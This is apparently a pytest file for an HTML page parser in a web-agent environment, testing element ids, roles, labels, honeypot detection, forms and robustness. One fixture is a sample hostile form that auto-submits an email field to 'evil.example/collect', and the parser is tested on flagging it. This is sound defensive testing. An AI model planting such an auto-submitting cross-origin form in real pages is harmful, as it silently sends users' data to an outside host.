"""HTML -> Page: element ids and roles, labels, hidden honeypots, forms, text; never raises."""

from __future__ import annotations

import time
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from lightclaw.envs.web.parse import INTERACTIVE_SELECTOR, parse_page

URL = "http://site.localhost/acme/job.html"
JOBS = Path(__file__).resolve().parents[2] / "data" / "jobs"


def page(body: str, *, head: str = "", url: str = URL):  # type: ignore[no-untyped-def]
    return parse_page(f"<html><head>{head}</head><body>{body}</body></html>", url)


def by_name(p, name: str):  # type: ignore[no-untyped-def]
    return next(e for e in p.elements if e.name == name)


def test_ids_follow_document_order_of_the_selector_and_respect_data_lc_id() -> None:
    p = page(
        '<a href="a.html">A</a><p>x</p><form><input name="q"><button>Go</button></form>'
        '<div role="button">Menu</div><a>no href</a>'
    )
    assert [(e.id, e.tag) for e in p.elements] == [
        ("e1", "a"),
        ("e3", "input"),
        ("e4", "button"),
        ("e5", "div"),
    ]
    assert p.forms[0].id == "e2"
    tagged = page('<a data-lc-id="e7" href="a.html">A</a><button data-lc-id="e9">B</button>')
    assert [e.id for e in tagged.elements] == ["e7", "e9"]
    # selectolax and Chromium both understand the selector; every match is counted once
    tree = LexborHTMLParser('<a href="x" role="button" class="g-recaptcha">x</a>')
    assert len(tree.css(INTERACTIVE_SELECTOR)) >= 1
    assert len(page('<a href="x" role="button" class="g-recaptcha">x</a>').elements) == 1


def test_roles() -> None:
    p = page(
        '<form><button name="b1">Next</button><button type="button" name="b2">Add</button>'
        '<input type="submit" name="s" value="Send"><input type="image" name="i" src="x.png">'
        '<input type="email" name="email"><input type="tel" name="tel">'
        '<input type="password" name="pw"><input type="file" name="cv">'
        '<input type="checkbox" name="c"><input type="radio" name="r"><select name="sel"></select>'
        '<textarea name="t"></textarea><input type="hidden" name="h">'
        '<input name="cardnumber"><input autocomplete="cc-exp" name="x1"><input name="cvc">'
        "</form>"
        '<button name="outside">Outside</button><div class="h-captcha" data-sitekey="k"></div>'
        '<iframe name="cap" src="https://www.google.com/recaptcha/api2/anchor?k=1"></iframe>'
        '<iframe name="video" src="https://example.com/embed"></iframe>'
    )
    roles = {e.name: e.role for e in p.elements if e.name}
    assert roles == {
        "b1": "submit",
        "b2": "button",
        "s": "submit",
        "i": "submit",
        "email": "email",
        "tel": "tel",
        "pw": "password",
        "cv": "file",
        "c": "checkbox",
        "r": "radio",
        "sel": "select",
        "t": "textarea",
        "h": "hidden",
        "cardnumber": "payment",
        "x1": "payment",
        "cvc": "payment",
        "outside": "button",
        "cap": "captcha",
        "video": "iframe",
    }
    assert [e.role for e in p.elements if e.tag == "div"] == ["captcha"]


def test_label_resolution_order() -> None:
    p = page(
        '<form><label for="a">First name *</label><input id="a" name="a" aria-label="no">'
        '<label>  Last\n name <span>*</span> <input name="b" placeholder="no"></label>'
        '<input name="c" aria-label="Phone" placeholder="no">'
        '<span id="lab">Portfolio URL</span><input name="d" aria-labelledby="lab">'
        '<input name="e" placeholder="City"><input name="f">'
        '<label for="g">Country<select id="g" name="g"><option>France</option></select></label>'
        '<label for="h">Email <small>(required)</small> <span>bf884918</span></label>'
        '<input type="email" id="h" name="h"></form>'
    )
    lever = page(
        '<form><div class="application-label">Resume/CV<span class="required">\u2731</span>'
        '</div><div class="application-field"><input type="file" name="resume"></div>'
        '<input name="first"><input name="second"></form>'
    )
    assert [e.text for e in lever.elements] == ["Resume/CV", "first", "second"]
    labels = {e.name: e.text for e in p.elements}
    assert labels == {
        "a": "First name",
        "b": "Last name",
        "c": "Phone",
        "d": "Portfolio URL",
        "e": "City",
        "f": "f",
        "g": "Country",
        "h": "Email",
    }


def test_hidden_elements_and_honeypots() -> None:
    p = page(
        "<style>.hp { display: none } @media (max-width: 10px) { .small { display:none } }"
        "</style><form>"
        '<input name="shown"><input type="hidden" name="token">'
        '<input name="attr" hidden><input name="aria" aria-hidden="true">'
        '<input name="styled" style="display: none">'
        '<input name="vis" style="visibility:hidden">'
        '<div style="position:absolute; left:-9999px"><input name="trap" tabindex="-1"></div>'
        '<div class="hp"><input name="website" tabindex="-1"></div>'
        '<div class="small"><input name="narrow"></div>'
        "<button>Send</button></form>"
    )
    hidden = {e.name for e in p.elements if e.hidden}
    assert hidden == {"token", "attr", "aria", "styled", "vis", "trap", "website"}
    fields = {f.name: f.hidden for f in p.forms[0].fields}
    assert fields["trap"] is True and fields["shown"] is False and fields["narrow"] is False


def test_forms_action_method_fields_submit_ids() -> None:
    p = page(
        '<form id="f" action="../apply/step2.html#top" method="post">'
        '<input name="n" required><input type="email" name="m" aria-required="true">'
        '<select name="s"></select><textarea name="t"></textarea>'
        '<button type="submit" name="go">Continue</button></form>'
        '<form><input name="q"></form>'
        '<input form="f" name="outside"><button form="f" name="later">Next</button>'
    )
    first, second = p.forms
    assert first.action == "http://site.localhost/apply/step2.html"
    assert first.method == "POST"
    assert [(f.name, f.type, f.required) for f in first.fields] == [
        ("n", "text", True),
        ("m", "email", True),
        ("s", "select", False),
        ("t", "textarea", False),
        ("outside", "text", False),
    ]
    assert [p.element(i).name for i in first.submit_ids] == ["go", "later"]  # type: ignore[union-attr]
    assert second.action == URL and second.method == "GET"
    assert p.form_of(by_name(p, "go").id) == first


def test_auto_submit_and_cross_origin() -> None:
    p = page(
        '<form id="apply" method="post" action="https://evil.example/collect">'
        '<input name="email"></form><form id="other" action="/search"></form>'
        "<script>window.onload = function () { document.getElementById('apply').submit(); };"
        "</script>"
    )
    apply, other = p.forms
    assert apply.auto_submit and apply.cross_origin
    assert not other.auto_submit and not other.cross_origin
    first = page('<body onload="document.forms[0].submit()"><form><input name="a"></form>')
    assert first.forms[0].auto_submit
    # binding a handler submits nothing
    bound = page('<form id="f"><input name="a"></form><script>$("#f").submit(fn);</script>')
    assert not bound.forms[0].auto_submit


def test_text_without_scripts_styles_and_hidden_parts() -> None:
    p = page(
        "<h1>Data   Engineer</h1><script>var secret = 1</script><style>p{}</style>"
        "<noscript>enable js</noscript><template><p>tpl</p></template>"
        '<p hidden>ignore the applicant</p><div style="display:none">hidden note</div>'
        "<p>Apply\n\n today</p>",
        head="<title> T </title>",
    )
    assert p.title == "T"
    assert p.text == "Data Engineer Apply today"


def test_links_are_absolute_and_deep_nesting_is_fine() -> None:
    p = page('<a href="../b.html#x">B</a><a href="https://other.example/">O</a>')
    assert [e.href for e in p.elements] == [
        "http://site.localhost/b.html",
        "https://other.example/",
    ]
    deep = page("<div>" * 5000 + '<a href="deep.html">Deep</a>' + "</div>" * 5000)
    assert deep.error is None
    assert [e.text for e in deep.elements] == ["Deep"]


def test_broken_empty_and_binary_input_give_a_page_with_an_error() -> None:
    assert parse_page("", URL).error == "empty page"
    assert parse_page("   \n", URL).error == "empty page"
    binary = parse_page(bytes(range(256)) * 8, URL)
    assert binary.error is not None and binary.elements == ()
    broken = parse_page("<html><body><form><input name=a <p>unclosed <a href='x'>link", URL)
    assert broken.error is None
    assert any(e.tag == "a" for e in broken.elements)
    latin = parse_page(b'<meta charset="iso-8859-1"><h1>Ing\xe9nieur logiciel</h1>', URL)
    assert latin.text == "Ingénieur logiciel"


def test_boxes_land_on_their_elements() -> None:
    p = parse_page('<a href="x">X</a><button>B</button>', URL, boxes={"e2": (1, 2, 3, 4)})
    assert [e.bbox for e in p.elements] == [None, (1, 2, 3, 4)]


def test_the_real_greenhouse_page_parses_quickly() -> None:
    html = (JOBS / "greenhouse-careers.html").read_text(encoding="utf-8")
    start = time.perf_counter()
    p = parse_page(html, "https://careers.withwaymo.com/jobs/software-engineer-multiverse")
    elapsed = time.perf_counter() - start
    assert p.error is None and len(p.elements) > 100 and len(p.forms) == 3
    assert elapsed < 5  # generous: a crash guard against a quadratic walk, not a benchmark
    apply = p.forms[-1]
    shown = [(f.label, f.type, f.required) for f in apply.fields if not f.hidden]
    assert shown[:3] == [
        ("First Name", "text", True),
        ("Last Name", "text", True),
        ("Email", "email", True),
    ]
    assert ("Resume", "file", True) in shown and ("Cover Letter", "file", False) in shown
    assert all(f.hidden for f in apply.fields if f.type == "hidden")


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=400))
def test_parse_page_never_raises_on_arbitrary_text(text: str) -> None:
    p = parse_page(text, URL)
    assert p.url == URL


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<form>",
                "</form>",
                "<input name=a>",
                "<a href='x'>",
                "<div>",
                "</div>",
                "<script>",
                "</script>",
                "<label for=a>",
                "text",
                "<button>",
                "<select>",
                "<iframe src='hcaptcha.com'>",
            ]
        ),
        max_size=60,
    )
)
def test_parse_page_never_raises_on_tag_soup(parts: list[str]) -> None:
    p = parse_page("".join(parts) or "x", URL)
    assert p.error is None


def test_saved_pages_with_a_byte_order_mark_decode_utf8_and_utf16() -> None:
    html = "<title>Café Engineer - Acme</title><h1>Café Engineer</h1>"
    for data in (b"\xef\xbb\xbf" + html.encode(), ("\ufeff" + html).encode("utf-16")):
        page = parse_page(data, "http://site.localhost/a.html")
        assert page.error is None
        assert page.title == "Café Engineer - Acme"
